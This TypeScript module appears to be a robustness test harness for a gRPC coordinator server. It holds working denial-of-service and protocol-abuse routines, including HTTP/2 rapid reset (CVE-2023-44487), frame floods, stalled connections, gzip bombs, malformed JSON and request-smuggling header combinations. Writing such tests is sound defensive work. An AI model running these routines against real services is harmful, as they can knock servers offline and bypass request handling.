import { once } from 'node:events';
import { connect, constants } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { buffer } from 'node:stream/consumers';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { create, toBinary } from '@bufbuild/protobuf';
import { ReadKeyValueRequestSchema } from '../../src/gen/coordinator/v1/coordinator_pb.js';
import { fields, frame, PING, PREFACE, SETTINGS } from '../server/http2-frames.js';

export interface Target {
  readonly host: string;
  readonly port: number;
}

const PATH = '/coordinator.v1.CoordinatorService/WriteKeyValue';
const READ_PATH = '/coordinator.v1.CoordinatorService/ReadKeyValue';
const [DATA, HEADERS, RST_STREAM, SETTINGS_FRAME, CONTINUATION] = [0x0, 0x1, 0x3, 0x4, 0x9];
const [END_STREAM, END_HEADERS] = [0x1, 0x4];
const CANCEL = Buffer.from([0, 0, 0, 8]);
const MIB = 1024 * 1024;
const STALLED_MS = 2000;

const REQUEST = fields({
  ':method': 'POST',
  ':scheme': 'http',
  ':path': PATH,
  ':authority': 'localhost',
  'content-type': 'application/grpc',
});

async function open({ host, port }: Target, count = 1): Promise<Socket[]> {
  const sockets = Array.from({ length: count }, () => connectTcp(port, host).on('error', () => {}));
  await Promise.all(sockets.map((socket) => once(socket, 'connect')));
  return sockets;
}

/** Writes as fast as the other side takes it, until it closes the connection or all is written. */
async function flood(target: Target, parts: Iterable<Buffer>): Promise<void> {
  const [socket] = (await open(target)) as [Socket];
  socket.resume();
  for (const part of parts) {
    if (socket.destroyed) return;
    if (socket.write(part)) continue;
    // Whoever is not read from for so long has lost.
    const stalled = delay(STALLED_MS, true, { ref: false });
    const next = Promise.race([once(socket, 'drain'), once(socket, 'close'), stalled]);
    if ((await next.catch(() => true)) === true) break;
  }
  await delay(50);
  socket.destroy();
}

function* streams(count: number, more: (streamId: number) => readonly Buffer[]): Generator<Buffer> {
  yield Buffer.concat([PREFACE, SETTINGS]);
  for (let from = 0; from < count; from += 100) {
    yield Buffer.concat(Array.from({ length: 100 }, (_, i) => more(2 * (from + i) + 1)).flat());
  }
}

function* repeat(count: number, part: Buffer): Generator<Buffer> {
  for (let i = 0; i < count; i++) yield part;
}

async function post(target: Target, headers: Readonly<Record<string, string>>, body: Uint8Array): Promise<void> {
  const session = connect(`http://${target.host}:${target.port}`).on('error', () => {});
  try {
    const stream = session.request({ ':method': 'POST', ':path': PATH, ...headers });
    stream.on('error', () => {});
    stream.end(body);
    await Promise.race([buffer(stream).catch(() => {}), once(stream, 'close')]);
  } finally {
    session.destroy();
  }
}

async function http1(target: Target, ...requests: readonly (string | Buffer)[]): Promise<void> {
  for (const request of requests) {
    const [socket] = (await open(target)) as [Socket];
    socket.resume();
    socket.write(request);
    await Promise.race([once(socket, 'close'), delay(200)]);
    socket.destroy();
  }
}

const JSON_TYPE = { 'content-type': 'application/json' };
const START = `POST ${PATH} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n`;
/** Inflates to a GiB, in layers no larger than what a client would send. */
const bomb = () => gzipSync(Buffer.alloc(256 * MIB));

/** What peers do that wish no good, each as fast as this process can. */
export const ATTACKS: Readonly<Record<string, (target: Target) => Promise<void>>> = {
  async 'thousands of idle connections'(target) {
    const sockets = await open(target, 3000);
    await delay(500);
    for (const socket of sockets) socket.destroy();
  },
  async 'connections that come and go'(target) {
    for (let i = 0; i < 50; i++) for (const socket of await open(target, 50)) socket.destroy();
  },
  async 'half-closed connections'(target) {
    const sockets = await open(target, 200);
    for (const socket of sockets) socket.end(`${START}Content-Length: 100\r\n\r\n{`);
    await delay(300);
    for (const socket of sockets) socket.destroy();
  },
  'endless header fields over HTTP/1.1': (target) =>
    flood(target, [
      Buffer.from(START),
      ...repeat(20_000, Buffer.from(`x-${'a'.repeat(100)}: ${'b'.repeat(1000)}\r\n`)),
    ]),
  'endless CONTINUATION frames': (target) =>
    flood(target, [
      Buffer.concat([PREFACE, SETTINGS, frame(HEADERS, 0, REQUEST, 1)]),
      ...repeat(100_000, frame(CONTINUATION, 0, fields({ 'x-a': 'b'.repeat(100) }), 1)),
    ]),
  'rapid reset (CVE-2023-44487)': (target) =>
    flood(
      target,
      streams(100_000, (id) => [frame(HEADERS, END_HEADERS, REQUEST, id), frame(RST_STREAM, 0, CANCEL, id)]),
    ),
  'more streams than allowed': (target) =>
    flood(
      target,
      streams(20_000, (id) => [frame(HEADERS, END_HEADERS, REQUEST, id)]),
    ),
  'requests without a body': (target) =>
    flood(
      target,
      streams(5000, (id) => [frame(HEADERS, END_HEADERS | END_STREAM, REQUEST, id)]),
    ),
  'a flood of PING': (target) =>
    flood(target, [Buffer.concat([PREFACE, SETTINGS]), ...repeat(3000, Buffer.concat(Array(100).fill(PING)))]),
  'a flood of SETTINGS': (target) =>
    flood(target, [PREFACE, ...repeat(3000, Buffer.concat(Array(100).fill(SETTINGS)))]),
  'frames of unknown types and of no sense': (target) =>
    flood(target, [Buffer.concat([PREFACE, SETTINGS]), ...repeat(2000, frame(0xee, 0xff, Buffer.alloc(1000), 7))]),
  async 'clients that never read'(target) {
    const noWindow = frame(SETTINGS_FRAME, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
    const page = fields({ ':method': 'GET', ':scheme': 'http', ':path': '/', ':authority': 'localhost' });
    const sockets = await open(target, 20);
    for (const socket of sockets) {
      socket.pause();
      const requests = Array.from({ length: 500 }, (_, i) => frame(HEADERS, END_HEADERS | END_STREAM, page, 2 * i + 1));
      socket.write(Buffer.concat([PREFACE, noWindow, ...requests]));
    }
    await delay(500);
    for (const socket of sockets) socket.destroy();
  },
  async 'long answers that nobody takes'(target) {
    const noWindow = { settings: { initialWindowSize: 0 } };
    const value = Buffer.alloc(MIB, 'v').toString('base64');
    const key = { tenantId: 't', key: 'long' };
    await post(target, JSON_TYPE, Buffer.from(JSON.stringify({ ...key, value })));
    const sessions = Array.from({ length: 10 }, () => connect(`http://${target.host}:${target.port}`, noWindow));
    for (const session of sessions) {
      session.on('error', () => {});
      for (let i = 0; i < 20; i++) {
        const headers = { ':method': 'POST', ':path': READ_PATH, 'content-type': 'application/proto' };
        const body = toBinary(ReadKeyValueRequestSchema, create(ReadKeyValueRequestSchema, key));
        session
          .request(headers)
          .on('error', () => {})
          .end(body);
      }
    }
    await delay(3000);
    for (const session of sessions) session.destroy();
  },
  async 'bombs of gzip'(target) {
    const bytes = bomb();
    const prefix = Buffer.alloc(5);
    prefix[0] = 1;
    prefix.writeUInt32BE(bytes.length, 1);
    for (let i = 0; i < 8; i++) {
      await Promise.all([
        post(target, { ...JSON_TYPE, 'content-encoding': 'gzip' }, bytes),
        post(target, { 'content-type': 'application/proto', 'content-encoding': 'gzip' }, bytes),
        post(target, { 'content-type': 'application/grpc', 'grpc-encoding': 'gzip' }, Buffer.concat([prefix, bytes])),
      ]);
    }
  },
  async 'JSON that is deep, wide, long and wrong'(target) {
    const deep = Buffer.from(`{"key":${'['.repeat(500_000)}`);
    const wide = Buffer.from(`{${Array.from({ length: 100_000 }, (_, i) => `"f${i}":${i}`).join()}}`);
    const long = Buffer.alloc(8 * MIB, 'k');
    const digits = Buffer.from(`{"tenantId":${'9'.repeat(1_000_000)}}`);
    const notBase64 = Buffer.from(`{"value":"${'%'.repeat(1_000_000)}"}`);
    for (let i = 0; i < 5; i++) {
      await Promise.all([deep, wide, long, digits, notBase64].map((body) => post(target, JSON_TYPE, body)));
    }
  },
  async 'messages that promise more than they hold'(target) {
    const body = Buffer.concat([Buffer.of(0, 0xff, 0xff, 0xff, 0xff), Buffer.alloc(1000)]);
    for (let i = 0; i < 50; i++) await post(target, { 'content-type': 'application/grpc' }, body);
  },
  async 'host names and origins that are not let in'(target) {
    const long = 'x'.repeat(10_000);
    await flood(target, repeat(20_000, Buffer.from(`GET / HTTP/1.1\r\nHost: ${long}.example\r\n\r\n`)));
    const preflight = 'OPTIONS / HTTP/1.1\r\nHost: localhost\r\nAccess-Control-Request-Method: POST\r\n';
    await flood(target, repeat(20_000, Buffer.from(`${preflight}Origin: http://${long}.example\r\n\r\n`)));
  },
  async 'declared lengths that never come'(target) {
    const declared = Buffer.of(0, 0, 0x10, 0, 0);
    const sessions = Array.from({ length: 4 }, () => connect(`http://${target.host}:${target.port}`));
    for (const session of sessions) {
      session.on('error', () => {});
      for (let i = 0; i < 256; i++) {
        const type = i % 2 === 0 ? 'application/grpc' : 'application/grpc-web+proto';
        const stream = session.request({ ':method': 'POST', ':path': PATH, 'content-type': type });
        stream.on('error', () => {}).write(declared);
      }
    }
    const sockets = await open(target, 1500);
    for (const socket of sockets) socket.write(`${START}Content-Length: 1000000\r\n\r\n{`);
    await delay(1500);
    for (const end of [...sessions, ...sockets]) end.destroy();
  },
  async 'bodies in frames of one byte'(target) {
    const post = [frame(HEADERS, END_HEADERS, REQUEST, 1), frame(DATA, 0, Buffer.of(0, 0, 0x10, 0, 0), 1)];
    const byte = frame(DATA, 0, Buffer.of(7), 1);
    await Promise.all(
      Array.from({ length: 4 }, () =>
        flood(target, [
          Buffer.concat([PREFACE, SETTINGS, ...post]),
          ...repeat(150, Buffer.concat(Array(1000).fill(byte))),
        ]),
      ),
    );
  },
  'requests that two servers would read differently': (target) =>
    http1(
      target,
      `${START}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\n\r\n`,
      `${START}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x`,
      `${START}Transfer-Encoding: chunked, identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
      `${START}Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
      `${START}Content-Length: -1\r\n\r\n{}`,
      `${START}Content-Length: 2\r\n\r\n{}\0\0\0garbage\r\n\r\n`,
      `${START}Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 2\r\n\r\n{}`,
      `${START}Expect: a miracle\r\nContent-Length: 2\r\n\r\n{}`,
    ),
  'request lines of other times and worlds': (target) =>
    http1(
      target,
      'GET /\r\n\r\n',
      'GET / HTTP/1.0\r\n\r\n',
      'GET / HTTP/9.9\r\n\r\n',
      'GET http://evil.example/healthz HTTP/1.1\r\nHost: localhost\r\n\r\n',
      'BREW / HTTP/1.1\r\nHost: localhost\r\n\r\n',
      'CONNECT evil.example:443 HTTP/1.1\r\nHost: localhost\r\n\r\n',
      'OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n',
      `GET /${'a'.repeat(100_000)} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
      'GET //evil.example/%2e%2e/ HTTP/1.1\r\nHost: localhost\r\n\r\n',
      Buffer.from([0x50, 0x52, 0x49, 0, 0xff, 0xfe, 13, 10, 13, 10]),
      Buffer.alloc(100_000, 0xff),
    ),
};

/** A stream that begins an upload and never goes on; resolves with its reset code. */
export async function stalledUpload({ host, port }: Target): Promise<number> {
  const session = connect(`http://${host}:${port}`).on('error', () => {});
  const stream = session.request({ ':method': 'POST', ':path': PATH, 'content-type': 'application/grpc' });
  stream.on('error', () => {});
  stream.write(Buffer.of(0, 0, 0));
  await once(stream, 'close');
  session.destroy();
  return stream.rstCode ?? constants.NGHTTP2_NO_ERROR;
}
